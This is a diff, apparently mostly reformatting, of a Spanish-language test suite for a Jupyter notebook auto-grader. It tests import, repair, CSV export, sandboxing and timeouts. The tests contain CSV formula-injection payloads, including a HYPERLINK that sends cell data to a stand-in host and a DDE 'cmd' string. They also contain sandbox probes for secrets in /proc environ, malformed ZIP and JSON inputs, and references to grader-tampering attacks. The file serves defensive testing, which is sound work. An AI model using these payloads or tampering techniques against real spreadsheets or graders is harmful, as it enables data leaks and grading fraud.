@@ -3,6 +3,7 @@
 Importar (Moodle y carpeta), reparar la estructura de las entregas (casos de grading-faults.md),
 CSV, retroalimentación, caja de arena y ejecución con tiempos máximos.
 """
+
 from __future__ import annotations
 
 import csv
@@ -10,11 +11,10 @@ import io
 import json
 import math
 import os
+import shutil
 import sys
 import zipfile
 from pathlib import Path
-
-import shutil
 
 import nbformat
 import pytest
@@ -44,8 +44,14 @@ def fake_notebook(grade_ids: list[str]) -> bytes:
     nb = nbformat.v4.new_notebook()
     for gid in grade_ids:
         cell = nbformat.v4.new_code_cell(f"# {gid}")
-        cell.metadata["nbgrader"] = {"grade": False, "grade_id": gid, "locked": False, "schema_version": 3,
-                                     "solution": True, "task": False}
+        cell.metadata["nbgrader"] = {
+            "grade": False,
+            "grade_id": gid,
+            "locked": False,
+            "schema_version": 3,
+            "solution": True,
+            "task": False,
+        }
         nb.cells.append(cell)
     return nbformat.writes(nb).encode()
 
@@ -55,7 +61,15 @@ def test_ayuda_en_espanol():
     text = _parser().format_help()
     assert "uso:" in text and "opciones" in text and "muestra esta ayuda" in text
     sub = _parser()._subparsers._group_actions[0].choices["calificar"].format_help()
-    for option in ("--entregas", "--tarea", "--clase", "--perfil", "--trabajadores", "--tiempo-celda", "--tiempo-total"):
+    for option in (
+        "--entregas",
+        "--tarea",
+        "--clase",
+        "--perfil",
+        "--trabajadores",
+        "--tiempo-celda",
+        "--tiempo-total",
+    ):
         assert option in sub
     assert "show this help" not in sub
 
@@ -83,6 +97,7 @@ def test_zip_de_moodle(tmp_path):
     nbs = {NB1: {"count_params", "test_count_params"}, "02_lora_matematicas": {"lora_params"}}
     path = tmp_path / "moodle.zip"
     with zipfile.ZipFile(path, "w") as zf:
+
         def add(name, data, date=(2025, 3, 1, 10, 0, 0)):
             zf.writestr(zipfile.ZipInfo(name, date_time=date), data)
 
@@ -149,14 +164,20 @@ def _zip_bytes(entries: dict[str, bytes]) -> bytearray:
 def test_zip_con_entradas_danadas_califica_el_resto(tmp_path):
     """Una entrada con el CRC mal, o con cabeceras que dicen ocupar gigas, no para la importación:
     esa persona sale en el CSV con el motivo y las demás se importan."""
-    raw = _zip_bytes({f"ana/{NB1}.ipynb": b"A" * 100, f"beto/{NB1}.ipynb": b"B" * 100,
-                      f"carla/{NB1}.ipynb": b"C" * 100, f"dani/{NB1}.ipynb": b"D" * 100})
+    raw = _zip_bytes(
+        {
+            f"ana/{NB1}.ipynb": b"A" * 100,
+            f"beto/{NB1}.ipynb": b"B" * 100,
+            f"carla/{NB1}.ipynb": b"C" * 100,
+            f"dani/{NB1}.ipynb": b"D" * 100,
+        }
+    )
     raw[raw.index(b"B" * 100)] = ord("X")  # el contenido ya no cuadra con su CRC-32
     at = raw.find(b"PK\x01\x02")
     while at >= 0:  # cabeceras del directorio central de carla y dani: 3,9 GB descomprimido cada una
-        name_len = int.from_bytes(raw[at + 28:at + 30], "little")
-        if raw[at + 46:at + 46 + name_len].split(b"/")[0] in (b"carla", b"dani"):
-            raw[at + 24:at + 28] = (0xE8000000).to_bytes(4, "little")
+        name_len = int.from_bytes(raw[at + 28 : at + 30], "little")
+        if raw[at + 46 : at + 46 + name_len].split(b"/")[0] in (b"carla", b"dani"):
+            raw[at + 24 : at + 28] = (0xE8000000).to_bytes(4, "little")
         at = raw.find(b"PK\x01\x02", at + 4)
     path = tmp_path / "entregas.zip"
     path.write_bytes(bytes(raw))
@@ -177,11 +198,13 @@ def test_json_anidado_sin_fin_es_json_invalido():
     """200 000 listas anidadas (o 5 000, que sí se leen) no rompen el calificador: JSON inválido."""
     for depth in (200_000, 5_000, repair.MAX_DEPTH + 1):
         nested = "[" * depth + "]" * depth
-        data = ('{"cells": [], "metadata": {"x": %s}, "nbformat": 4, "nbformat_minor": 5}' % nested).encode()
+        data = (f'{{"cells": [], "metadata": {{"x": {nested}}}, "nbformat": 4, "nbformat_minor": 5}}').encode()
         with pytest.raises(repair.Ungradable, match="JSON inválido .anidado"):
             repair.load_notebook(data)
     shallow = "[" * 10 + "]" * 10
-    repair.load_notebook(('{"cells": [], "metadata": {"x": %s}, "nbformat": 4, "nbformat_minor": 5}' % shallow).encode())
+    repair.load_notebook(
+        (f'{{"cells": [], "metadata": {{"x": {shallow}}}, "nbformat": 4, "nbformat_minor": 5}}').encode()
+    )
 
 
 def test_csv_sin_formulas(tmp_path):
@@ -189,13 +212,33 @@ def test_csv_sin_formulas(tmp_path):
     cd = ClassDir(tmp_path / "clase")
     cd.create()
     write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 10.0})
-    bad = {"a": '=HYPERLINK("http://x.example/?"&A1,"clic")', "b": "+1+1", "c": "-2+3", "d": "@SUM(A1)",
-           "e": "\t=1", "f": "\r=1", "g": "Ana = Luis"}
-    write_json(cd.index, {"alumnos": {k: {"nombre": v} for k, v in bad.items()}, "entregas": {"a": {NB1: {"sha256": "x"}}},
-                          "cuadernos": [NB1]})
-    write_json(cd.result_dir(NB1, "a") / "resultado.json",
-               {"sha256": "x", "estado": "calificado", "puntuacion": 7.5, "puntuacion_maxima": 10.0,
-                "observaciones": ["=cmd|' /C calc'!A0", "otra"]})
+    bad = {
+        "a": '=HYPERLINK("http://x.example/?"&A1,"clic")',
+        "b": "+1+1",
+        "c": "-2+3",
+        "d": "@SUM(A1)",
+        "e": "\t=1",
+        "f": "\r=1",
+        "g": "Ana = Luis",
+    }
+    write_json(
+        cd.index,
+        {
+            "alumnos": {k: {"nombre": v} for k, v in bad.items()},
+            "entregas": {"a": {NB1: {"sha256": "x"}}},
+            "cuadernos": [NB1],
+        },
+    )
+    write_json(
+        cd.result_dir(NB1, "a") / "resultado.json",
+        {
+            "sha256": "x",
+            "estado": "calificado",
+            "puntuacion": 7.5,
+            "puntuacion_maxima": 10.0,
+            "observaciones": ["=cmd|' /C calc'!A0", "otra"],
+        },
+    )
     export.write_csv(cd)
     rows = {r["alumno"]: r for r in csv.DictReader(io.StringIO(cd.csv.read_bytes().decode("utf-8"), newline=""))}
     for sid, name in bad.items():
@@ -205,7 +248,7 @@ def test_csv_sin_formulas(tmp_path):
     assert rows["a"]["observaciones"].startswith("'=cmd") and rows["a"]["puntuacion"] == "7.5"
 
 
-_OWN_COUNT = '''def count_params(model):
+_OWN_COUNT = """def count_params(model):
     vistos = {}
     for tensor in model.parameters():
         vistos[id(tensor)] = tensor
@@ -213,7 +256,7 @@ _OWN_COUNT = '''def count_params(model):
     libres = sum(x.numel() for x in vistos.values() if x.requires_grad)
     if todos < libres:
         raise RuntimeError("imposible")
-    return todos, libres'''
+    return todos, libres"""
 
 
 def test_informe_de_copias(nb1, tmp_path):
@@ -234,8 +277,11 @@ def test_informe_de_copias(nb1, tmp_path):
     for sid, nb in subs.items():
         cd.submission(sid, NB1).parent.mkdir(parents=True, exist_ok=True)
         cd.submission(sid, NB1).write_bytes(casos.to_bytes(nb))
-    index = {"alumnos": {sid: {"nombre": sid} for sid in subs}, "entregas": {sid: {NB1: {}} for sid in subs},
-             "cuadernos": [NB1]}
+    index = {
+        "alumnos": {sid: {"nombre": sid} for sid in subs},
+        "entregas": {sid: {NB1: {}} for sid in subs},
+        "cuadernos": [NB1],
+    }
     copies.write_report(cd, NB1, index, nb1.solution, nb1.released)
     rows = list(csv.DictReader(io.StringIO(cd.copies_csv.read_text(encoding="utf-8"))))
     pairs = {(r["alumno"], r["comparado_con"]): float(r["parecido"]) for r in rows}
@@ -254,8 +300,13 @@ def test_nombres_normalizados():
 
 # --- reparar la estructura -------------------------------------------------------------------
 def test_json_invalido_y_no_cuadernos():
-    for data, reason in ((b'{"cells": [', "JSON inválido"), (b"", "JSON inválido"), (b"\xff\xfe", "JSON inválido"),
-                         (b"[1, 2]", "no es un cuaderno"), (b'{"cells": [], "nbformat": 2}', "versión")):
+    for data, reason in (
+        (b'{"cells": [', "JSON inválido"),
+        (b"", "JSON inválido"),
+        (b"\xff\xfe", "JSON inválido"),
+        (b"[1, 2]", "no es un cuaderno"),
+        (b'{"cells": [], "nbformat": 2}', "versión"),
+    ):
         with pytest.raises(repair.Ungradable, match=reason):
             repair.load_notebook(data)
     with pytest.raises(repair.Ungradable, match="demasiado grande"):
@@ -266,8 +317,9 @@ def test_json_invalido_y_no_cuadernos():
         repair.load_notebook(nbformat.writes(big).encode())
 
 
-@pytest.mark.parametrize("case", ["correct_with_noise", "structure", "no_metadata", "reordered",
-                                  "loop_stderr_output", "no_traceback"])
+@pytest.mark.parametrize(
+    "case", ["correct_with_noise", "structure", "no_metadata", "reordered", "loop_stderr_output", "no_traceback"]
+)
 def test_reparacion_deja_la_estructura_publicada(nb1, case):
     data, expect = getattr(casos, case)(nb1)
     fixed = repair.repair(repair.load_notebook(data), nb1.released)
@@ -316,7 +368,7 @@ def test_celda_de_pruebas_movida_vuelve_sola_a_su_sitio(nb1, where):
 def test_solucion_borrada_no_tapa_otra_celda(nb1):
     sub = nb1.solved()
     first = next(c for c in sub.cells if casos.is_solution(c))
-    copy_cell = nbformat.v4.new_code_cell(first.source)   # la respuesta sigue, en una celda normal
+    copy_cell = nbformat.v4.new_code_cell(first.source)  # la respuesta sigue, en una celda normal
     sub.cells[sub.cells.index(first)] = copy_cell
     fixed = repair.repair(repair.load_notebook(casos.to_bytes(sub)), nb1.released)
     restored = next(c for c in fixed.nb.cells if casos.meta(c).get("grade_id") == casos.meta(first)["grade_id"])
@@ -325,7 +377,9 @@ def test_solucion_borrada_no_tapa_otra_celda(nb1):
 
 def test_pruebas_solo_con_assert():
     nb = nbformat.v4.new_notebook()
-    for i, src in enumerate(["assert 1 == 1", "helpers.check_equal(1, 1, 'x')", "0.25", "import numpy as np\nnp.False_"]):
+    for i, src in enumerate(
+        ["assert 1 == 1", "helpers.check_equal(1, 1, 'x')", "0.25", "import numpy as np\nnp.False_"]
+    ):
         cell = nbformat.v4.new_code_cell(src)
         cell.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": f"t{i}", "points": 1}
         nb.cells.append(cell)
@@ -346,16 +400,39 @@ def test_csv_estados_y_orden(tmp_path):
     cd = ClassDir(tmp_path / "clase")
     cd.create()
     write_json(cd.template(NB1) / "info.json", {"puntuacion_maxima": 10.0})
-    write_json(cd.index, {
-        "alumnos": {"zoe": {"nombre": "Zoë"}, "ana": {"nombre": "Ana"}, "luis": {"nombre": "Luis"}, "eva": {"nombre": "Eva"}},
-        "entregas": {"zoe": {NB1: {"sha256": "a"}}, "ana": {NB1: {"sha256": "b"}}, "eva": {NB1: {"sha256": "c"}}},
-        "cuadernos": [NB1]})
-    write_json(cd.result_dir(NB1, "zoe") / "resultado.json",
-               {"sha256": "a", "estado": "calificado", "puntuacion": 7.5, "puntuacion_maxima": 10.0,
-                "observaciones": ["una", "dos"]})
-    write_json(cd.result_dir(NB1, "ana") / "resultado.json",
-               {"sha256": "b", "estado": "no calificable: JSON inválido", "puntuacion": None,
-                "puntuacion_maxima": 10.0, "observaciones": []})
+    write_json(
+        cd.index,
+        {
+            "alumnos": {
+                "zoe": {"nombre": "Zoë"},
+                "ana": {"nombre": "Ana"},
+                "luis": {"nombre": "Luis"},
+                "eva": {"nombre": "Eva"},
+            },
+            "entregas": {"zoe": {NB1: {"sha256": "a"}}, "ana": {NB1: {"sha256": "b"}}, "eva": {NB1: {"sha256": "c"}}},
+            "cuadernos": [NB1],
+        },
+    )
+    write_json(
+        cd.result_dir(NB1, "zoe") / "resultado.json",
+        {
+            "sha256": "a",
+            "estado": "calificado",
+            "puntuacion": 7.5,
+            "puntuacion_maxima": 10.0,
+            "observaciones": ["una", "dos"],
+        },
+    )
+    write_json(
+        cd.result_dir(NB1, "ana") / "resultado.json",
+        {
+            "sha256": "b",
+            "estado": "no calificable: JSON inválido",
+            "puntuacion": None,
+            "puntuacion_maxima": 10.0,
+            "observaciones": [],
+        },
+    )
     export.write_csv(cd)
     first = cd.csv.read_bytes()
     export.write_csv(cd)
@@ -363,7 +440,11 @@ def test_csv_estados_y_orden(tmp_path):
     rows = list(csv.DictReader(io.StringIO(first.decode())))
     assert [r["alumno"] for r in rows] == ["ana", "eva", "luis", "zoe"]
     assert [(r["puntuacion"], r["estado"]) for r in rows] == [
-        ("", "no calificable: JSON inválido"), ("", export.PENDING), ("", "falta la entrega"), ("7.5", "calificado")]
+        ("", "no calificable: JSON inválido"),
+        ("", export.PENDING),
+        ("", "falta la entrega"),
+        ("7.5", "calificado"),
+    ]
     assert rows[3]["observaciones"] == "una | dos" and rows[3]["nombre"] == "Zoë"
 
 
@@ -373,23 +454,37 @@ def test_plantilla_de_retroalimentacion_en_espanol(tmp_path):
     assert "Puntuación" in text and "Tu respuesta" in text and 'lang="es"' in text
     for english in ("Score", "Student's answer", "Test cell", "(Top)"):
         assert english not in text
-    page = feedback.add_summary('<body>\n  <a name="top"></a>', student="Ana <b>", notebook=NB1, status="calificado",
-                                score=7.0, max_score=10.0, notes=["nota & media"])
+    page = feedback.add_summary(
+        '<body>\n  <a name="top"></a>',
+        student="Ana <b>",
+        notebook=NB1,
+        status="calificado",
+        score=7.0,
+        max_score=10.0,
+        notes=["nota & media"],
+    )
     assert "Ana &lt;b&gt;" in page and "7 / 10" in page and "nota &amp; media" in page
 
 
 def test_trazas_de_las_pruebas_solo_con_el_mensaje():
     cell = nbformat.v4.new_code_cell("assert f(5) == 12")
     cell.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "t", "points": 1}
-    cell.outputs = [nbformat.v4.new_output("error", ename="AssertionError", evalue="f(5): el valor 11 no es correcto.",
-                                           traceback=["----> 1 assert f(5) == 12  # prueba oculta"])]
+    cell.outputs = [
+        nbformat.v4.new_output(
+            "error",
+            ename="AssertionError",
+            evalue="f(5): el valor 11 no es correcto.",
+            traceback=["----> 1 assert f(5) == 12  # prueba oculta"],
+        )
+    ]
     cell, _ = feedback.HideTestTracebacks().preprocess_cell(cell, {}, 0)
     assert cell.outputs[0].traceback == ["AssertionError: f(5): el valor 11 no es correcto."]
 
 
 # --- caja de arena -----------------------------------------------------------------------------
-needs_sandbox = pytest.mark.skipif(not sandbox.available()[0],
-                                   reason=f"sin caja de arena en esta máquina: {sandbox.available()[1]}")
+needs_sandbox = pytest.mark.skipif(
+    not sandbox.available()[0], reason=f"sin caja de arena en esta máquina: {sandbox.available()[1]}"
+)
 
 
 @needs_sandbox
@@ -401,8 +496,12 @@ def test_caja_de_arena_no_deja_ver_ni_tocar_nada(tmp_path):
     (cd.submissions / "otra" / f"{NB1}.ipynb").write_text("{}")
     (cd.course / "gradebook.db").write_bytes(b"SQLite format 3\x00")
     reads, writes, connects = probe.default_targets(cd)
-    reads += [str(cd.submissions / "otra" / f"{NB1}.ipynb"), str(ROOT / "solutions" / NB1 / f"{NB1}.ipynb"),
-              str(ROOT / "tests"), f"/proc/{os.getpid()}/environ"]
+    reads += [
+        str(cd.submissions / "otra" / f"{NB1}.ipynb"),
+        str(ROOT / "solutions" / NB1 / f"{NB1}.ipynb"),
+        str(ROOT / "tests"),
+        f"/proc/{os.getpid()}/environ",
+    ]
     result, output = probe.run_in_sandbox(cd, probe.probe_source(reads, writes, connects))
     assert result is not None, output
     assert (result["uid"] != 0 or os.geteuid() != 0) and result["procesos_visibles"] <= 3
@@ -441,15 +540,19 @@ def _enames(cell) -> list[str]:
 
 @pytest.mark.slow
 def test_bucle_resultado_suelto_y_nucleo_muerto(tmp_path):
-    cells = [nbformat.v4.new_code_cell("x = 1"),
-             nbformat.v4.new_code_cell("while True:\n    pass"),          # 10: se interrumpe y se sigue
-             _grade_cell("x + 1\n0.25", "suelto"),                        # 14: el 0.25 no es nota parcial
-             _grade_cell("assert x == 1", "antes"),
-             nbformat.v4.new_code_cell("import os\nos._exit(3)"),         # 11: el núcleo muere
-             _grade_cell("assert True", "despues")]
+    cells = [
+        nbformat.v4.new_code_cell("x = 1"),
+        nbformat.v4.new_code_cell("while True:\n    pass"),  # 10: se interrumpe y se sigue
+        _grade_cell("x + 1\n0.25", "suelto"),  # 14: el 0.25 no es nota parcial
+        _grade_cell("assert x == 1", "antes"),
+        nbformat.v4.new_code_cell("import os\nos._exit(3)"),  # 11: el núcleo muere
+        _grade_cell("assert True", "despues"),
+    ]
     nb, report = _execute(tmp_path, cells, timeout=4)
     assert "CellTimeoutError" in _enames(nb.cells[1]) and report["timeouts"] == [1]
-    assert not [o for o in nb.cells[2].outputs if o.output_type == "execute_result"] and report["ignored_results"] == [2]
+    assert not [o for o in nb.cells[2].outputs if o.output_type == "execute_result"] and report["ignored_results"] == [
+        2
+    ]
     assert _enames(nb.cells[3]) == []
     assert report["dead_kernel"] == 4 and "DeadKernelError" in _enames(nb.cells[4])
     assert _enames(nb.cells[5]) == ["CeldaNoEjecutada"]  # sin esto nbgrader le daría la nota máxima
@@ -457,7 +560,9 @@ def test_bucle_resultado_suelto_y_nucleo_muerto(tmp_path):
 
 @pytest.mark.slow
 def test_presupuesto_total(tmp_path):
-    cells = [nbformat.v4.new_code_cell("import time\ntime.sleep(2)") for _ in range(5)] + [_grade_cell("assert True", "t")]
+    cells = [nbformat.v4.new_code_cell("import time\ntime.sleep(2)") for _ in range(5)] + [
+        _grade_cell("assert True", "t")
+    ]
     nb, report = _execute(tmp_path, cells, timeout=30, total_budget=5)
     assert report["budget_exhausted"] is not None and report["timeouts"] == []
     assert _enames(nb.cells[-1]) == ["CeldaNoEjecutada"]
@@ -470,18 +575,24 @@ def test_salida_del_cuaderno_acotada_antes_de_escribir(tmp_path):
     errores enormes, actualizaciones de display): el cuaderno calificado y la retroalimentación
     salen de ahí y quedan acotados."""
     cap = 150_000  # por celda; el cuaderno entero, el doble
-    cells = [nbformat.v4.new_code_cell("print('w' * 200_000)")]                               # 0: pasa de su celda
-    cells += [nbformat.v4.new_code_cell("print('x' * 120_000)") for _ in range(3)]            # 3: pasa del cuaderno
-    cells.append(nbformat.v4.new_code_cell("raise ValueError('y' * 500_000)"))                # 4: se acorta
-    cells.append(nbformat.v4.new_code_cell("from IPython.display import display, update_display\n"
-                                           "display('poco', display_id='d')\nupdate_display('z' * 500_000, display_id='d')"))
+    cells = [nbformat.v4.new_code_cell("print('w' * 200_000)")]  # 0: pasa de su celda
+    cells += [nbformat.v4.new_code_cell("print('x' * 120_000)") for _ in range(3)]  # 3: pasa del cuaderno
+    cells.append(nbformat.v4.new_code_cell("raise ValueError('y' * 500_000)"))  # 4: se acorta
+    cells.append(
+        nbformat.v4.new_code_cell(
+            "from IPython.display import display, update_display\n"
+            "display('poco', display_id='d')\nupdate_display('z' * 500_000, display_id='d')"
+        )
+    )
     cells.append(_grade_cell("assert True", "t"))
     nb, report = _execute(tmp_path, cells, timeout=60, max_output_chars=cap)
     written = len(json.dumps([c.get("outputs", []) for c in nb.cells], ensure_ascii=False))
     assert written < 2 * cap + 10_000, written
     assert report["truncated"] == [0, 3, 4]
     assert _enames(nb.cells[4]) == ["ValueError"]  # un error acortado, pero nunca quitado
-    assert all(any(o.get("text") == kernel_mod().TRUNCATED_TEXT for o in nb.cells[i].outputs) for i in report["truncated"])
+    assert all(
+        any(o.get("text") == kernel_mod().TRUNCATED_TEXT for o in nb.cells[i].outputs) for i in report["truncated"]
+    )
     assert _enames(nb.cells[-1]) == []  # las pruebas se ejecutan igual
 
 
@@ -497,12 +608,19 @@ def test_vigilantes_memoria_entre_procesos_y_nucleo_que_no_atiende(tmp_path):
     tiempo máximo de cada celda, que aquí es de 10 minutos: si la prueba termina, lo paró el vigilante):
     procesos que juntos pasan de la memoria (cada uno por debajo de RLIMIT_AS) y un bucle en C
     que no atiende la interrupción."""
-    hog = ("import subprocess, sys\n"
-           "code = 'b = bytearray(200 * 2**20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\nimport time; time.sleep(600)'\n"
-           "procs = [subprocess.Popen([sys.executable, '-c', code]) for _ in range(4)]\n"
-           "import time; time.sleep(600)")
-    nb, report = _execute(tmp_path, [nbformat.v4.new_code_cell(hog), _grade_cell("assert True", "t")], timeout=600,
-                          memory_limit=500 * 2**20)
+    hog = (
+        "import subprocess, sys\n"
+        "code = 'b = bytearray(200 * 2**20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\n"
+        "import time; time.sleep(600)'\n"
+        "procs = [subprocess.Popen([sys.executable, '-c', code]) for _ in range(4)]\n"
+        "import time; time.sleep(600)"
+    )
+    nb, report = _execute(
+        tmp_path,
+        [nbformat.v4.new_code_cell(hog), _grade_cell("assert True", "t")],
+        timeout=600,
+        memory_limit=500 * 2**20,
+    )
     assert report["memory"] == 0 and report["memory_watchdog"] > 500 * 2**20 and report["dead_kernel"] == 0
     assert _enames(nb.cells[1]) == ["CeldaNoEjecutada"]
     busy = nbformat.v4.new_code_cell("sum(range(10**14))")  # en C: no mira las señales
@@ -521,11 +639,24 @@ def test_cambiar_el_cuaderno_regenera_la_plantilla_y_el_curso(tmp_path):
     (solutions / name).mkdir(parents=True)
     nb = nbformat.v4.new_notebook()
     sol = nbformat.v4.new_code_cell("def f():\n    ### BEGIN SOLUTION\n    return 1\n    ### END SOLUTION")
-    sol.metadata["nbgrader"] = {"grade": False, "grade_id": "f", "locked": False, "schema_version": 3,
-                                "solution": True, "task": False}
+    sol.metadata["nbgrader"] = {
+        "grade": False,
+        "grade_id": "f",
+        "locked": False,
+        "schema_version": 3,
+        "solution": True,
+        "task": False,
+    }
     test = nbformat.v4.new_code_cell("assert f() == 1")
-    test.metadata["nbgrader"] = {"grade": True, "grade_id": "t", "locked": True, "points": 2, "schema_version": 3,
-                                 "solution": False, "task": False}
+    test.metadata["nbgrader"] = {
+        "grade": True,
+        "grade_id": "t",
+        "locked": True,
+        "points": 2,
+        "schema_version": 3,
+        "solution": False,
+        "task": False,
+    }
     nb.cells = [sol, test]
     nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
     nbformat.write(nb, solutions / name / f"{name}.ipynb")
@@ -602,8 +733,13 @@ def test_libro_de_notas_conserva_lo_manual_y_su_archivo(tmp_path):
     assignments.prepare_master(cd, NB1, info)
     t0, t1 = list(info["celdas"])[:2]
     cells = {c: [0.0, m] for c, m in info["celdas"].items()}
-    export.merge_into_gradebook(cd, [{"cuaderno": NB1, "alumno": "ana", "nombre": "Ana", "celdas": cells},
-                                     {"cuaderno": NB1, "alumno": "luis", "nombre": "Luis", "celdas": cells}])
+    export.merge_into_gradebook(
+        cd,
+        [
+            {"cuaderno": NB1, "alumno": "ana", "nombre": "Ana", "celdas": cells},
+            {"cuaderno": NB1, "alumno": "luis", "nombre": "Luis", "celdas": cells},
+        ],
+    )
     db = cd.course / "gradebook.db"
     inode = db.stat().st_ino
     with Gradebook(f"sqlite:///{db}") as gb:
@@ -611,8 +747,13 @@ def test_libro_de_notas_conserva_lo_manual_y_su_archivo(tmp_path):
         gb.find_grade(t0, NB1, NB1, "luis").manual_score = 0.5
         gb.db.commit()
     cells[t1] = [2.0, cells[t1][1]]
-    export.merge_into_gradebook(cd, [{"cuaderno": NB1, "alumno": "ana", "nombre": "Ana", "celdas": cells},
-                                     {"cuaderno": NB1, "alumno": "luis", "nombre": "Luis", "celdas": {}}])
+    export.merge_into_gradebook(
+        cd,
+        [
+            {"cuaderno": NB1, "alumno": "ana", "nombre": "Ana", "celdas": cells},
+            {"cuaderno": NB1, "alumno": "luis", "nombre": "Luis", "celdas": {}},
+        ],
+    )
     assert db.stat().st_ino == inode
     with Gradebook(f"sqlite:///{db}") as gb:
         grade = gb.find_grade(t0, NB1, NB1, "ana")
@@ -631,9 +772,9 @@ def test_formgrader_sin_html_activo():
 
 
 def test_examen_del_codigo():
-    from helpers.classroom import tamper
-
     import nbformat as nbf
+
+    from helpers.classroom import tamper
 
     for path in sorted((ROOT / "solutions").glob("*/*.ipynb")):
         assert tamper.scan_notebook(nbf.read(path, as_version=4)) == [], path  # nada en un cuaderno correcto
@@ -651,8 +792,10 @@ def test_examen_del_codigo():
         found = tamper.scan_sources([source])
         assert any(what in x for x in found), (source, found)
     assert tamper.scan_sources(["torch.backends.cudnn.deterministic = True", "if 'x' in sys.modules: pass"]) == []
-    for source in [("class B(int):\n    __eq__ = lambda self, other: True"),
-                   "class C:\n    def __bool__(self):\n        return not False"]:
+    for source in [
+        ("class B(int):\n    __eq__ = lambda self, other: True"),
+        "class C:\n    def __bool__(self):\n        return not False",
+    ]:
         assert any("comparaciones trucadas" in x for x in tamper.scan_sources([source])), source
 
 
@@ -695,7 +838,9 @@ def test_huella_incluye_el_codigo_de_helpers(tmp_path):
     after_check = grading.helpers_fingerprint(folder)
     assert after_check != before
     # El calificador también decide la nota (la guardia corre en cada núcleo): sin números a mano.
-    (folder / "classroom" / "guard.py").write_text((folder / "classroom" / "guard.py").read_text() + "\n# otra guardia\n")
+    (folder / "classroom" / "guard.py").write_text(
+        (folder / "classroom" / "guard.py").read_text() + "\n# otra guardia\n"
+    )
     assert grading.helpers_fingerprint(folder) != after_check
 
 
@@ -714,9 +859,9 @@ def test_la_caja_no_recibe_secretos(monkeypatch):
 def test_guardia_restaura_lo_que_usan_las_pruebas():
     """La guardia (en un intérprete de IPython de verdad) deshace transformadores, run_cell,
     comprobaciones y funciones de biblioteca cambiados, y dice qué cambió."""
+    from fixtures_classroom import ataques
     from IPython.core.interactiveshell import InteractiveShell
 
-    from fixtures_classroom import ataques
     from helpers.classroom import guard
 
     class Kernel:
@@ -730,9 +875,13 @@ def test_guardia_restaura_lo_que_usan_las_pruebas():
         nbk = casos.Notebook(NB1)
         shell.run_cell("import helpers, torch")
         # Cada ronda: los ataques (la celda que insertan), las pruebas ya no fallan, se restaura y sí.
-        for attacks, expected in (((ataques.patched_checks, ataques.run_cell_patch),
-                                   ("run_cell", "helpers.check_equal", "nombres de módulos redefinidos (helpers)")),
-                                  ((ataques.input_transformers,), ("transformadores de entrada", "transformadores AST"))):
+        for attacks, expected in (
+            (
+                (ataques.patched_checks, ataques.run_cell_patch),
+                ("run_cell", "helpers.check_equal", "nombres de módulos redefinidos (helpers)"),
+            ),
+            ((ataques.input_transformers,), ("transformadores de entrada", "transformadores AST")),
+        ):
             for attack in attacks:
                 nb = nbformat.reads(attack(nbk, "t")[0].decode(), as_version=4)
                 source = nb.cells[nbk.setup_index(nb) + 1].source
@@ -761,9 +910,11 @@ def test_integridad_tras_morir_a_mitad_de_una_escritura(tmp_path):
     con.commit()
     con.close()
     # Un proceso escribe sin confirmar y muere de golpe, como con SIGKILL.
-    code = ("import os, sqlite3; c = sqlite3.connect(%r); c.execute('PRAGMA cache_size=1'); "
-            "c.execute('BEGIN'); c.executemany('INSERT INTO notas VALUES (?, ?)', [('x' * 500, 1.0)] * 2000); "
-            "os._exit(9)") % str(db)
+    code = (
+        f"import os, sqlite3; c = sqlite3.connect({str(db)!r}); c.execute('PRAGMA cache_size=1'); "
+        "c.execute('BEGIN'); c.executemany('INSERT INTO notas VALUES (?, ?)', [('x' * 500, 1.0)] * 2000); "
+        "os._exit(9)"
+    )
     assert subprocess.run([sys.executable, "-c", code]).returncode == 9
     assert (tmp_path / "gradebook.db-journal").exists(), "la prueba debía dejar un diario caliente"
     assert export.check_integrity(db)
